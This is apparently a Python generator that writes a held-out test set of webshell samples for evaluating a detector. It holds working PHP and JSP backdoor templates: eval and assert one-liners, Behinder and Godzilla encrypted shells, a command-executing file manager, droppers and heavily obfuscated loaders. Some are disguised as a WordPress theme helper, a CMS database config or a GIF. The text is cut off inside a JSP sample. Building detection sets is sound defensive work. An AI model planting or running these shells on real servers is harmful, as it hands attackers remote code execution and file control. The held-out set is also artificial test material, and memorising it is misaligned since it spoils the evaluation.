#!/usr/bin/env python3
"""Generator for the webshell held-out set 5 (tests/data/webshell/heldout).

Written blind (without reading the detector) on 2026-12-06. Stdlib only,
fixed seed, deterministic: re-running rewrites malicious/, benign/ and
MANIFEST.tsv byte-for-byte. See README.md for the protocol and the mix.
"""
import base64
import hashlib
import json
import os
import random
import re
import struct
import sys
import zlib


LOWER = "abcdefghijklmnopqrstuvwxyz"
ALNUM = LOWER + LOWER.upper() + "0123456789"
COMMON_PW = ["pass", "cmd", "x", "a", "c", "z0", "chopper", "ant", "shell", "caidao",
             "mima", "qq", "ee", "v", "g", "hack", "test", "pwd", "sb", "1", "key", "p"]


def T(s, **kw):
    """Fill {{name}} placeholders; every placeholder must be supplied."""
    def rep(m):
        return str(kw[m.group(1)])
    return re.sub(r"\{\{(\w+)\}\}", rep, s)


def ident(r, n):
    return "".join(r.choice(LOWER + LOWER.upper()) for _ in range(n))


_used_pw = []


def pw(r):
    """Realistic shell password / parameter name; distinct from the previous few."""
    while True:
        if r.random() < 0.55:
            v = r.choice(COMMON_PW)
        else:
            v = "".join(r.choice(LOWER + "0123456789") for _ in range(r.randint(2, 6)))
            if v[0].isdigit():
                v = r.choice(LOWER) + v[1:]
        if v not in _used_pw[-3:]:
            _used_pw.append(v)
            return v


def b64(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.b64encode(b).decode()


_LEN_BASE = [3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59,
             67, 83, 99, 115, 131, 163, 195, 227, 258]
_LEN_EXTRA = [0] * 8 + [1] * 4 + [2] * 4 + [3] * 4 + [4] * 4 + [5] * 4 + [0]
_DIST_BASE = [1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769,
              1025, 1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577]
_DIST_EXTRA = [0, 0, 0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 5, 6, 6, 7, 7, 8, 8, 9, 9, 10, 10,
               11, 11, 12, 12, 13, 13]


def deflate_raw(data):
    """Raw DEFLATE (RFC 1951), one fixed-Huffman block, greedy LZ77.

    Implemented here instead of calling zlib so the output bytes do not depend
    on which zlib build (zlib, zlib-ng, ...) Python is linked against; PHP's
    gzinflate()/gzuncompress() accept any valid stream."""
    out = bytearray()
    acc = [0, 0]  # bit buffer, bit count

    def bits(v, n):  # LSB-first
        acc[0] |= v << acc[1]
        acc[1] += n
        while acc[1] >= 8:
            out.append(acc[0] & 0xFF)
            acc[0] >>= 8
            acc[1] -= 8

    def huff(code, n):  # Huffman codes go MSB-first
        rev = 0
        for i in range(n):
            rev |= ((code >> i) & 1) << (n - 1 - i)
        bits(rev, n)

    def sym(v):
        if v < 144:
            huff(0x30 + v, 8)
        elif v < 256:
            huff(0x190 + v - 144, 9)
        elif v < 280:
            huff(v - 256, 7)
        else:
            huff(0xC0 + v - 280, 8)

    bits(1, 1)  # BFINAL
    bits(1, 2)  # BTYPE = fixed Huffman
    heads = {}
    i, n = 0, len(data)
    while i < n:
        best_len, best_dist = 0, 0
        if i + 3 <= n:
            key = bytes(data[i:i + 3])
            for j in reversed(heads.get(key, [])[-64:]):
                if i - j > 32768:
                    break
                m = 3
                while m < 258 and i + m < n and data[j + m] == data[i + m]:
                    m += 1
                if m > best_len:
                    best_len, best_dist = m, i - j
        if best_len >= 3:
            li = max(k for k in range(29) if _LEN_BASE[k] <= best_len)
            sym(257 + li)
            bits(best_len - _LEN_BASE[li], _LEN_EXTRA[li])
            di = max(k for k in range(30) if _DIST_BASE[k] <= best_dist)
            huff(di, 5)
            bits(best_dist - _DIST_BASE[di], _DIST_EXTRA[di])
            step = best_len
        else:
            sym(data[i])
            step = 1
        for k in range(i, min(i + step, n - 2)):
            heads.setdefault(bytes(data[k:k + 3]), []).append(k)
        i += step
    sym(256)
    if acc[1]:
        out.append(acc[0] & 0xFF)
    return bytes(out)


def zlib_wrap(data):
    """zlib (RFC 1950) stream around deflate_raw, as gzuncompress() expects."""
    return b"\x78\xda" + deflate_raw(data) + struct.pack(">I", zlib.adler32(data) & 0xFFFFFFFF)


def rot13_bytes(b):
    out = bytearray()
    for x in b:
        if 65 <= x <= 90:
            x = (x - 65 + 13) % 26 + 65
        elif 97 <= x <= 122:
            x = (x - 97 + 13) % 26 + 97
        out.append(x)
    return bytes(out)


def md5hex(s):
    return hashlib.md5(s.encode()).hexdigest()


def chr_expr(r, word):
    parts = []
    for ch in word:
        o = ord(ch)
        k = r.randrange(5)
        if k == 0:
            parts.append("chr(%d)" % o)
        elif k == 1:
            parts.append("chr(0x%x)" % o)
        elif k == 2:
            parts.append("chr(0%o)" % o)
        elif k == 3:
            a = r.randint(1, o - 1)
            parts.append("chr(%d+%d)" % (a, o - a))
        else:
            a = r.randint(1, 200)
            parts.append("chr(%d-%d)" % (o + a, a))
    return ".".join(parts)


XOR_SET = [chr(c) for c in range(0x21, 0x7f)
           if not chr(c).isalnum() and chr(c) not in "'\\$"]


def xor_pair_expr(r, word):
    a, b = [], []
    for ch in word:
        pairs = [(x, y) for x in XOR_SET for y in XOR_SET if ord(x) ^ ord(y) == ord(ch)]
        if not pairs:
            raise ValueError("no xor pair for %r" % ch)
        x, y = r.choice(pairs)
        a.append(x)
        b.append(y)
    return "('%s'^'%s')" % ("".join(a), "".join(b))


def java_unicode_escape(s):
    return "".join(c if c in " \t\r\n" else "\\u%04x" % ord(c) for c in s)


# Every function takes the shared random.Random and returns
# (file name, language, family/technique, one-line description, text).



def p_chopper(r):
    k = pw(r)
    return ("conn.php", "php", "chopper-oneliner",
            "China Chopper / AntSword one-liner, @eval($_POST[k])",
            T("<?php @eval($_POST['{{k}}']);?>\n", k=k))


def p_assert(r):
    k = pw(r)
    return ("config_bak.php", "php", "assert-oneliner",
            "assert() of a request value (PHP 5 / 7.0 string assertion)",
            T("<?php\nif(isset($_REQUEST['{{k}}'])){@assert($_REQUEST['{{k}}']);}\n", k=k))


def p_varfunc_get(r):
    a, b = pw(r), pw(r)
    return ("help.php", "php", "variable-function",
            "function name from GET, argument from POST: ?a=assert / system",
            T("<?php $a=$_GET['{{a}}'];$a($_POST['{{b}}']);?>", a=a, b=b))


def p_b64_eval(r):
    k = pw(r)
    return ("tmp.php", "php", "antsword-base64-encoder",
            "eval(base64_decode(POST)) receiver for the AntSword base64 encoder",
            T("<?php\n  eval(base64_decode($_POST[\"{{k}}\"]));\n?>\n", k=k))


def p_gzinflate(r):
    k = pw(r)
    inner = T("@eval($_POST['{{k}}']);", k=k)
    blob = b64(deflate_raw(inner.encode()))
    v = ident(r, 5)
    text = T("""<?php
/**
 * Cache helper
 * @package Core
 */
${{v}} = '{{blob}}';
eval(gzinflate(base64_decode(${{v}})));
?>
""", v=v, blob=blob)
    return ("db_cache.php", "php", "eval-gzinflate-base64",
            "eval(gzinflate(base64_decode(literal))) wrapping a chopper one-liner", text)


def p_nested_layers(r):
    k = pw(r)
    core = T('if(isset($_REQUEST["{{k}}"])){echo "<pre>";@system($_REQUEST["{{k}}"]);echo "</pre>";exit;}'
             '@eval($_POST["{{k}}x"]);', k=k)
    layer2 = "eval(gzuncompress(base64_decode('%s')));" % b64(zlib_wrap(core.encode()))
    blob = b64(rot13_bytes(deflate_raw(layer2.encode())))
    # split the literal the way packers do
    parts = [blob[i:i + 76] for i in range(0, len(blob), 76)]
    lit = "'\n    .'".join(parts)
    text = T("""<?php
$_F=__FILE__;$_X='{{lit0}}';
eval(gzinflate(str_rot13(base64_decode($_X
    .'{{rest}}'))));
""", lit0="", rest=lit)
    return ("class.upload.php", "php", "multi-layer-base64-rot13-gzinflate",
            "two nested eval layers (base64+rot13+gzinflate, then gzuncompress) around cmd+eval shell", text)


def p_strrev(r):
    k = pw(r)
    f = ident(r, 3)
    payload = b64(T("@eval($_POST['{{k}}']);", k=k).encode())
    text = T("<?php\n${{f}} = strrev('edoced_46esab');\neval(${{f}}('{{p}}'));\n", f=f, p=payload)
    return ("session.inc.php", "php", "strrev-base64",
            "base64_decode name hidden by strrev, eval of decoded one-liner", text)


def p_create_function(r):
    k = pw(r)
    return ("create.phtml", "php", "create_function",
            "create_function('', POST) then call (PHP <= 7.x)",
            T("<?php\n$f = create_function('', $_POST['{{k}}']);\n$f();\n?>\n", k=k))


def p_create_function_rot(r):
    k = pw(r)
    c, g = ident(r, 4), ident(r, 4)
    text = T("""<?php
${{c}} = str_rot13('perngr_shapgvba');
${{g}} = ${{c}}('$a', 'ev' . 'al($a);');
${{g}}(@$_REQUEST['{{k}}']);
""", c=c, g=g, k=k)
    return ("lang.php", "php", "create_function-rot13",
            "create_function name via str_rot13, body evals its argument", text)


def p_preg_e(r):
    k = pw(r)
    return ("search.php", "php", "preg_replace-e",
            "preg_replace with /e modifier evaluating POST (PHP < 7)",
            T('<?php @preg_replace("/[pageerror]/e",$_POST[\'{{k}}\'],"error"); ?>\n', k=k))


def p_preg_e_hex(r):
    k = pw(r)
    text = T("""<?php
$pat = "\\x2f\\x78\\x2f\\x65";
$rep = '@eval(base64_decode($_POST["{{k}}"]));';
@preg_replace($pat, $rep, 'x');
""", k=k)
    return ("template.inc", "php", "preg_replace-e-hexpattern",
            "/x/e pattern written as \\x escapes, replacement evals base64 POST (PHP < 7)", text)


def p_array_map(r):
    k = pw(r)
    f = ident(r, 2)
    text = T("<?php\n${{f}} = 'as' . 'se' . 'rt';\n@array_map(${{f}}, array($_REQUEST['{{k}}']));\n", f=f, k=k)
    return ("api_map.php", "php", "callback-array_map",
            "array_map with split 'assert' callback name (PHP 5 / 7.0)", text)


def p_usort(r):
    f = pw(r)
    text = T("""<?php
$arr = array_values($_POST);
@usort($arr, $_GET['{{f}}']);
""", f=f)
    return ("sort.php", "php", "callback-usort",
            "usort over POST values with attacker-named comparator (?f=assert, code posted twice; PHP 5)", text)


def p_cufa(r):
    k = pw(r)
    text = T("<?php @call_user_func_array(base64_decode('YXNzZXJ0'), array($_POST['{{k}}'])); ?>\n", k=k)
    return ("common.php", "php", "callback-call_user_func_array",
            "call_user_func_array(base64_decode('YXNzZXJ0'), POST)", text)


def p_shutdown(r):
    k = pw(r)
    text = T("""<div class="footer">
  <p>Copyright &copy; 2019 All Rights Reserved</p>
</div>
</body>
</html>
<?php register_shutdown_function('assert', isset($_POST['{{k}}']) ? $_POST['{{k}}'] : '1'); ?>
""", k=k)
    return ("footer.php", "php", "callback-register_shutdown_function",
            "footer template ending in register_shutdown_function('assert', POST)", text)


def p_array_filter(r):
    k = pw(r)
    text = T("<?php\nheader('Content-Type: text/plain');\narray_filter(array(@$_REQUEST['{{k}}']), 'sys' . 'tem');\n", k=k)
    return ("log.php", "php", "callback-array_filter-system",
            "array_filter with 'system' callback on request value", text)


def p_chr_chain(r):
    k = pw(r)
    v = ident(r, 1) + ident(r, 3)
    text = T("<?php\n${{v}}={{e}};\n${{v}}($_GET['{{k}}']);\n", v=v, e=chr_expr(r, "system"), k=k)
    return ("inc.php", "php", "chr-chain-system",
            "'system' assembled from chr() of mixed hex/octal/arithmetic, called on GET", text)


def p_behinder_aes(r):
    secret = ident(r, 8).lower()
    key = md5hex(secret)[:16]
    text = T("""<?php
@error_reporting(0);
session_start();
    $key="{{key}}";
    $_SESSION['k']=$key;
    session_write_close();
    $post=file_get_contents("php://input");
    if(!extension_loaded('openssl'))
    {
        $t="base64_"."decode";
        $post=$t($post."");
        for($i=0;$i<strlen($post);$i++) {
                 $post[$i] = $post[$i]^$key[$i+1&15];
                }
    }
    else
    {
        $post=openssl_decrypt($post, "AES128", $key);
    }
    $arr=explode('|',$post);
    $func=$arr[0];
    $params=$arr[1];
    class C{public function __invoke($p) {eval($p."");}}
    @call_user_func(new C(),$params);
?>
""", key=key)
    return ("pic.php", "php", "behinder-v3-aes",
            "Behinder v3 PHP shell: AES128 (openssl) or XOR fallback on php://input, __invoke eval", text)


def p_behinder_xor(r):
    secret = ident(r, 7).lower()
    key = md5hex(secret)[:16]
    cls = ident(r, 1).upper() + ident(r, 5)
    text = T("""<?php
@error_reporting(0);
function {{cls}}_d($data, $k)
{
    for ($i = 0; $i < strlen($data); $i++) {
        $data[$i] = $data[$i] ^ $k[$i + 1 & 15];
    }
    return $data;
}
$k = "{{key}}";
$raw = file_get_contents("php://input");
if ($raw != "") {
    $code = {{cls}}_d(base64_decode($raw), $k);
    class {{cls}} { public function __invoke($p) { eval($p . ""); } }
    @call_user_func(new {{cls}}(), $code);
}
""", cls=cls, key=key)
    return ("server.php", "php", "behinder-v4-xor-base64",
            "Behinder v4 default_xor_base64 style: base64 + XOR(key[i+1&15]) of php://input, eval via __invoke", text)


GODZILLA_PHP = """<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function {{enc}}($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $c = $K[$i+1&15];
        $D[$i] = $D[$i]^$c;
    }
    return $D;
}
${{pv}}='{{pass}}';
${{nv}}='payload';
${{kv}}='{{key}}';
if (isset($_POST[${{pv}}])){
    $data={{enc}}(base64_decode($_POST[${{pv}}]),${{kv}});
    if (isset($_SESSION[${{nv}}])){
        $payload={{enc}}($_SESSION[${{nv}}],${{kv}});
        if (strpos($payload,"getBasicsInfo")===false){
            $payload={{enc}}($payload,${{kv}});
        }
        eval($payload);
        echo substr(md5(${{pv}}.${{kv}}),0,16);
        echo base64_encode({{enc}}(@run($data),${{kv}}));
        echo substr(md5(${{pv}}.${{kv}}),16);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[${{nv}}]={{enc}}($data,${{kv}});
        }
    }
}
"""


def godzilla_php_text(r):
    return T(GODZILLA_PHP, enc=ident(r, 6), pv=ident(r, 4), nv=ident(r, 5), kv=ident(r, 3),
             **{"pass": pw(r), "key": md5hex(ident(r, 6))[:16]})


def p_godzilla_xor_b64(r):
    return ("about.php", "php", "godzilla-php-xor-base64",
            "Godzilla PHP_XOR_BASE64 shell: session-cached payload, XOR key[i+1&15], md5 markers",
            godzilla_php_text(r))


def p_godzilla_xor_raw(r):
    key = md5hex(ident(r, 6))[:16]
    e = ident(r, 5)
    text = T("""<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function {{e}}($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $D[$i] = $D[$i]^$K[($i+1)&15];
    }
    return $D;
}
$payloadName='payload';
$key='{{key}}';
$data=file_get_contents("php://input");
if ($data!==false && $data!=''){
    $data={{e}}($data,$key);
    if (isset($_SESSION[$payloadName])){
        $payload={{e}}($_SESSION[$payloadName],$key);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload={{e}}($payload,$key);
        }
        eval($payload);
        echo {{e}}(@run($data),$key);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]={{e}}($data,$key);
        }
    }
}
""", e=e, key=key)
    return ("xmlrpc_cache.php", "php", "godzilla-php-xor-raw",
            "Godzilla PHP_XOR_RAW shell reading the raw POST body", text)


def p_godzilla_packed(r):
    inner = godzilla_php_text(r)
    code = inner[len("<?php\n"):]
    blob = b64(deflate_raw(code.encode()))
    v1, v2 = ident(r, 6), ident(r, 6)
    text = T("""<?php
/* generated {{v1}} */
${{v1}}="bas"."e64_d"."ecode";${{v2}}="gzin"."flate";
eval(${{v2}}(${{v1}}("{{blob}}")));
""", v1=v1, v2=v2, blob=blob)
    return ("menu.php", "php", "godzilla-php-xor-base64-packed",
            "Godzilla PHP_XOR_BASE64 shell packed in eval(gzinflate(base64_decode)) with split names", text)


def p_ant_rot13(r):
    k = pw(r)
    text = T("<?php\n$x=$_POST['{{k}}'];\n@eval(str_rot13($x));\n", k=k)
    return ("admin_ajax.php", "php", "antsword-rot13-encoder",
            "AntSword custom rot13 encoder receiver: eval(str_rot13(POST))", text)


def p_ant_xor(r):
    k = pw(r)
    key = ident(r, 8)
    text = T("""<?php
$k = '{{key}}';
$d = base64_decode(isset($_POST['{{k}}']) ? $_POST['{{k}}'] : '');
$o = '';
for ($i = 0; $i < strlen($d); $i++) {
    $o .= chr(ord($d[$i]) ^ ord($k[$i % strlen($k)]));
}
if ($o !== '') { @eval($o); }
""", k=k, key=key)
    return ("sitemap.php", "php", "antsword-xor-encoder",
            "AntSword custom XOR+base64 encoder receiver, eval of decrypted POST", text)


def p_uploader(r):
    k = pw(r)
    text = T("""<html><head><title>Upload</title></head><body>
<?php
if (isset($_FILES['{{k}}'])) {
    $dst = isset($_POST['p']) && $_POST['p'] != '' ? $_POST['p'] : dirname(__FILE__) . '/' . $_FILES['{{k}}']['name'];
    if (@move_uploaded_file($_FILES['{{k}}']['tmp_name'], $dst)) {
        echo 'ok: ' . $dst;
    } else {
        echo 'fail';
    }
}
?>
<form method="post" enctype="multipart/form-data">
<input type="file" name="{{k}}"><input type="text" name="p" size="60" value="<?php echo dirname(__FILE__); ?>/">
<input type="submit" value="up">
</form>
</body></html>
""", k=k)
    return ("up.php", "php", "uploader",
            "file uploader writing the uploaded file to an attacker-chosen path", text)


def p_damas(r):
    passwd = ident(r, 10)
    h = md5hex(passwd)
    text = T("""<?php
@error_reporting(0);
@set_time_limit(0);
header("Content-Type: text/html; charset=gb2312");
$admin_hash = '{{h}}';
if (!isset($_COOKIE['ad']) || $_COOKIE['ad'] !== $admin_hash) {
    if (isset($_POST['pwd']) && md5($_POST['pwd']) === $admin_hash) {
        setcookie('ad', $admin_hash);
        header('Location: ?');
        exit;
    }
    echo '<form method="post">密码: <input type="password" name="pwd"><input type="submit" value="登录"></form>';
    exit;
}
function x_exec($c) {
    $r = '';
    if (function_exists('shell_exec')) { $r = shell_exec($c); }
    elseif (function_exists('passthru')) { ob_start(); passthru($c); $r = ob_get_clean(); }
    elseif (function_exists('system')) { ob_start(); system($c); $r = ob_get_clean(); }
    elseif (function_exists('popen')) { $h = popen($c, 'r'); while (!feof($h)) { $r .= fread($h, 1024); } pclose($h); }
    return $r;
}
$d = isset($_GET['d']) ? $_GET['d'] : getcwd();
$act = isset($_GET['act']) ? $_GET['act'] : 'list';
echo '<html><head><title>文件管理</title></head><body>';
echo '<a href="?act=list">文件列表</a> | <a href="?act=cmd">执行命令</a> | <a href="?act=php">执行PHP</a> | <a href="?act=up&d=' . urlencode($d) . '">上传文件</a><hr>';
switch ($act) {
case 'cmd':
    echo '<form method="post"><input name="c" size="80"><input type="submit" value="执行"></form>';
    if (isset($_POST['c'])) { echo '<pre>' . htmlspecialchars(x_exec($_POST['c'])) . '</pre>'; }
    break;
case 'php':
    echo '<form method="post"><textarea name="code" cols="100" rows="10"></textarea><input type="submit" value="执行"></form>';
    if (isset($_POST['code'])) { eval($_POST['code']); }
    break;
case 'up':
    echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="上传"></form>';
    if (isset($_FILES['f'])) { echo move_uploaded_file($_FILES['f']['tmp_name'], $d . '/' . $_FILES['f']['name']) ? '上传成功' : '上传失败'; }
    break;
case 'edit':
    $f = $_GET['f'];
    if (isset($_POST['t'])) { file_put_contents($f, $_POST['t']); echo '保存成功'; }
    echo '<form method="post"><textarea name="t" cols="120" rows="30">' . htmlspecialchars(file_get_contents($f)) . '</textarea><br><input type="submit" value="保存"></form>';
    break;
case 'del':
    @unlink($_GET['f']);
    echo '已删除';
    break;
default:
    echo '当前目录: ' . htmlspecialchars($d) . '<br><table>';
    foreach (scandir($d) as $n) {
        $p = $d . '/' . $n;
        if (is_dir($p)) {
            echo '<tr><td>[目录] <a href="?d=' . urlencode(realpath($p)) . '">' . htmlspecialchars($n) . '</a></td></tr>';
        } else {
            echo '<tr><td>' . htmlspecialchars($n) . '</td><td>' . filesize($p) . '</td><td><a href="?act=edit&f=' . urlencode($p) . '">编辑</a> <a href="?act=del&f=' . urlencode($p) . '">删除</a></td></tr>';
        }
    }
    echo '</table>';
}
echo '</body></html>';
""", h=h)
    return ("admin.php", "php", "php-damas-filemanager",
            "GB2312-encoded Chinese file manager (大马): cookie auth, cmd exec, PHP eval, upload, edit, delete",
            text.encode("gb2312"))


def p_dropper(r):
    n, c = pw(r), pw(r)
    text = T("""<?php
error_reporting(0);
if (isset($_POST['{{n}}']) && isset($_POST['{{c}}'])) {
    $body = base64_decode($_POST['{{c}}']);
    if (function_exists('file_put_contents')) {
        $ok = file_put_contents($_POST['{{n}}'], $body);
    } else {
        $fp = fopen($_POST['{{n}}'], 'wb');
        $ok = fwrite($fp, $body);
        fclose($fp);
    }
    echo $ok ? '1' : '0';
}
?>
""", n=n, c=c)
    return ("install_lock.php", "php", "dropper-file_put_contents",
            "writes base64-decoded POST body to an attacker-chosen path (second-stage dropper)", text)


def p_include_upload(r):
    k = pw(r)
    text = T("<?php\nif (!empty($_FILES['{{k}}']['tmp_name'])) {\n    include($_FILES['{{k}}']['tmp_name']);\n}\n", k=k)
    return ("avatar_upload.php", "php", "include-uploaded-tmpfile",
            "includes the PHP temp file of a multipart upload (code runs from /tmp)", text)


def p_include_temp(r):
    k = pw(r)
    t = ident(r, 4)
    text = T("""<?php
${{t}} = tempnam(sys_get_temp_dir(), 'sess_');
if (isset($_POST['{{k}}'])) {
    file_put_contents(${{t}}, '<?php ' . $_POST['{{k}}']);
    include ${{t}};
}
@unlink(${{t}});
""", t=t, k=k)
    return ("cache.php", "php", "include-tempfile-from-input",
            "writes POST code to a temp file, includes it, deletes it", text)


def p_goto(r):
    k = pw(r)
    payload = b64(T("@eval($_POST['{{k}}']);", k=k).encode())
    n = 6
    size = -(-len(payload) // n)
    chunks = [payload[i * size:(i + 1) * size] for i in range(n)]
    labels = [ident(r, 1) + ident(r, 5) for _ in range(n + 1)]
    var = ident(r, 2)
    blocks = []
    for i in range(n):
        op = "=" if i == 0 else ".="
        blocks.append("%s: $%s %s '%s'; goto %s;" % (labels[i], var, op, chunks[i], labels[i + 1]))
    final = "%s: $f = 'base' . '64_decode'; eval($f($%s));" % (labels[n], var)
    order = list(range(n))
    r.shuffle(order)
    body = ["goto %s;" % labels[0]]
    body += [blocks[i] for i in order]
    body.append(final)
    text = "<?php\n" + "\n".join(body) + "\n"
    return ("function.php", "php", "goto-obfuscated",
            "goto-spaghetti obfuscator output assembling base64 one-liner then eval", text)


def p_o0o(r):
    k = pw(r)
    alphabet = list("abcdefghijklmnopqrstuvwxyz0123456789_")
    r.shuffle(alphabet)
    alpha = "".join(alphabet)
    enc = "".join("%%%02X" % ord(c) if r.random() < 0.6 else c for c in alpha)

    def build(word):
        return ".".join("$OOO0O0O00[%d]" % alpha.index(c) for c in word)
    inner = T("@eval($_POST['{{k}}']);", k=k)
    blob = b64(deflate_raw(inner.encode()))
    text = T("""<?php
$OOO0O0O00=urldecode("{{enc}}");
$O0O000O00={{f1}};
$O00O0O0OO={{f2}};
eval($O00O0O0OO($O0O000O00("{{blob}}")));
?>
""", enc=enc, f1=build("base64_decode"), f2=build("gzinflate"), blob=blob)
    return ("global.php", "php", "O0O-array-index-obfuscator",
            "classic O0O obfuscator: function names indexed out of a urldecoded alphabet", text)


def p_destruct(r):
    k = pw(r)
    cls = ident(r, 1).upper() + ident(r, 6)
    text = T("""<?php
class {{cls}}
{
    public $data;
    public function __construct($d = null) { $this->data = $d; }
    public function __destruct()
    {
        if ($this->data) {
            @eval($this->data);
        }
    }
}
$c = new {{cls}}(@$_POST['{{k}}']);
""", cls=cls, k=k)
    return ("Cache.class.php", "php", "magic-__destruct",
            "class whose __destruct evals a property set from POST", text)


def p_call_magic(r):
    k = pw(r)
    text = T("""<?php
class Util
{
    public function __call($name, $args)
    {
        return call_user_func_array($name, $args);
    }
}
if (isset($_GET['{{k}}'])) {
    $u = new Util();
    echo '<pre>';
    $u->system($_GET['{{k}}']);
    echo '</pre>';
}
""", k=k)
    return ("Util.php", "php", "magic-__call",
            "__call forwards any method name to call_user_func_array; ->system(GET)", text)


def p_unserialize(r):
    k = pw(r)
    cls = ident(r, 1).upper() + ident(r, 5)
    text = T("""<?php
class {{cls}}
{
    public $handler = 'session';
    public $body = '';
    public function __wakeup()
    {
        if ($this->body !== '') {
            $fn = $this->handler;
            $fn($this->body);
        }
    }
}
if (isset($_COOKIE['{{k}}'])) {
    @unserialize(base64_decode($_COOKIE['{{k}}']));
}
""", cls=cls, k=k)
    return ("Session.php", "php", "unserialize-__wakeup",
            "self-contained unserialize gadget: cookie object's __wakeup calls handler(body)", text)


def p_gif(r):
    k = pw(r)
    text = T("GIF89a\n<?php @eval($_POST['{{k}}']); ?>\n", k=k)
    return ("head.gif", "php", "image-disguised",
            "GIF89a header then one-liner; run via include/LFI or a .gif PHP handler", text)


def p_ob_start(r):
    k = pw(r)
    text = T("""<?php
ob_start('ass' . 'ert');
echo isset($_POST['{{k}}']) ? $_POST['{{k}}'] : '';
ob_end_flush();
""", k=k)
    return ("page.inc", "php", "callback-ob_start",
            "output buffer callback 'assert' receives echoed POST (PHP 5)", text)


def p_post_call(r):
    a, b = pw(r), pw(r)
    return ("ajax.php", "php", "superglobal-call",
            "$_POST['a']($_POST['b']): function and argument both from POST",
            T("<?php @$_POST['{{a}}']($_POST['{{b}}']); ?>\n", a=a, b=b))


def p_cookie(r):
    c = "PHPSESSlD"
    text = T("""<?php
if (isset($_COOKIE['{{c}}']) && strlen($_COOKIE['{{c}}']) > 32) {
    @eval(base64_decode($_COOKIE['{{c}}']));
}
?>
User-agent: *
Disallow: /admin/
""", c=c)
    return ("robots.php", "php", "cookie-eval",
            "eval(base64_decode(cookie)) with look-alike cookie name PHPSESSlD", text)


def p_preg_callback(r):
    k = pw(r)
    text = T("""<?php
function fmt_cb($m)
{
    return eval($m[0]);
}
if (isset($_POST['{{k}}'])) {
    echo preg_replace_callback('/.+/s', 'fmt_cb', $_POST['{{k}}']);
}
""", k=k)
    return ("format.php", "php", "callback-preg_replace_callback",
            "preg_replace_callback with a named callback that evals the whole match", text)


def p_proc_open(r):
    k = pw(r)
    text = T("""<?php
$c = isset($_REQUEST['{{k}}']) ? $_REQUEST['{{k}}'] : 'id';
$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$p = proc_open($c, $spec, $pipes);
if (is_resource($p)) {
    fclose($pipes[0]);
    echo '<pre>' . stream_get_contents($pipes[1]) . stream_get_contents($pipes[2]) . '</pre>';
    fclose($pipes[1]);
    fclose($pipes[2]);
    proc_close($p);
}
""", k=k)
    return ("cmd.php5", "php", "cmd-proc_open",
            "command shell through proc_open pipes, .php5 extension", text)


def p_wp_injected(r):
    k = ident(r, 12).lower()
    text = T("""<?php
/**
 * Cache helper functions for the theme.
 *
 * @package Theme
 * @since 1.2.0
 */

if ( ! defined( 'ABSPATH' ) ) {
	exit;
}

function theme_cache_key( $name ) {
	return 'theme_' . md5( $name . get_bloginfo( 'url' ) );
}

function theme_cache_get( $name ) {
	return get_transient( theme_cache_key( $name ) );
}

function theme_cache_set( $name, $value, $ttl = 3600 ) {
	return set_transient( theme_cache_key( $name ), $value, $ttl );
}

if ( isset( $_REQUEST['{{k}}'] ) ) { $f = 'cre' . 'ate_func' . 'tion'; $g = @$f( '', stripslashes( $_REQUEST['{{k}}'] ) ); $g(); exit; }

function theme_cache_flush() {
	global $wpdb;
	$wpdb->query( "DELETE FROM {$wpdb->options} WHERE option_name LIKE '_transient_theme_%'" );
}
""", k=k)
    return ("class-theme-cache.php", "php", "injected-into-legit-file",
            "legit WordPress theme helper with one injected create_function backdoor line", text)


def p_dede_injected(r):
    k = pw(r)
    text = T("""<?php
/**
 * 数据库配置文件
 */
//数据库连接信息
$cfg_dbhost = 'localhost';
$cfg_dbname = 'dedecmsv57';
$cfg_dbuser = 'root';
$cfg_dbpwd = 'root';
$cfg_dbprefix = 'dede_';
$cfg_db_language = 'utf8';
@$_GET['{{k}}'] && @assert(stripslashes($_POST['{{k}}']));
?>
""", k=k)
    return ("common.inc.php", "php", "injected-into-cms-config",
            "DedeCMS-style DB config with an appended assert(POST) line gated by a GET flag", text)


def p_xor_nonalnum(r):
    fn = xor_pair_expr(r, "assert")
    post = xor_pair_expr(r, "POST")
    text = "<?php\n$_=%s;\n$__='_'.%s;\n$___=$$__;\n@$_($___[_]);\n" % (fn, post)
    return ("_.php", "php", "xor-nonalphanumeric",
            "no-alphanumeric XOR strings build 'assert' and '_POST', call on $_POST[_] (PHP 5)", text)


PHP_SAMPLES = [
    p_chopper, p_assert, p_varfunc_get, p_b64_eval, p_gzinflate, p_nested_layers, p_strrev,
    p_create_function, p_create_function_rot, p_preg_e, p_preg_e_hex, p_array_map, p_usort,
    p_cufa, p_shutdown, p_array_filter, p_chr_chain, p_behinder_aes, p_behinder_xor,
    p_godzilla_xor_b64, p_godzilla_xor_raw, p_godzilla_packed, p_ant_rot13, p_ant_xor,
    p_uploader, p_damas, p_dropper, p_include_upload, p_include_temp, p_goto, p_o0o,
    p_destruct, p_call_magic, p_unserialize, p_gif, p_ob_start, p_post_call, p_cookie,
    p_preg_callback, p_proc_open, p_wp_injected, p_dede_injected, p_xor_nonalnum,
]


def j_runtime(r):
    k = pw(r)
    text = T("""<%@ page import="java.io.*" contentType="text/html;charset=UTF-8" %>
<%
String c = request.getParameter("{{k}}");
if (c != null) {
    Process p = Runtime.getRuntime().exec(c);
    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String line;
    out.println("<pre>");
    while ((line = br.readLine()) != null) {
        out.println(line);
    }
    out.println("</pre>");
    br.close();
}
%>
""", k=k)
    return ("cmd.jsp", "jsp", "jsp-runtime-exec",
            "Runtime.getRuntime().exec(request param), output echoed in <pre>", text)


def j_processbuilder(r):
    k = pw(r)
    text = T("""<%@ page contentType="text/html;charset=GBK" pageEncoding="GBK" import="java.io.*,java.util.*" %>
<html><body>
